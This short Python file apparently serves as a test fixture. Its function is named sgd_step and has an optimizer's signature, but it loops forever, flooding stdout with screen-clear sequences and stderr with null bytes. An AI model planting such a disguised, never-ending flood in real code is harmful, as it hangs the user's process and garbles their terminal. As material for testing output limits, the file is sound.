"""Writes without end on the descriptors below Python's streams."""

import os

STATUS = "too much output"


def sgd_step(w, g, *, lr, weight_decay=0.0):
    while True:
        os.write(1, b"\x1b[2J" * 10_000)
        os.write(2, b"\0" * 10_000)
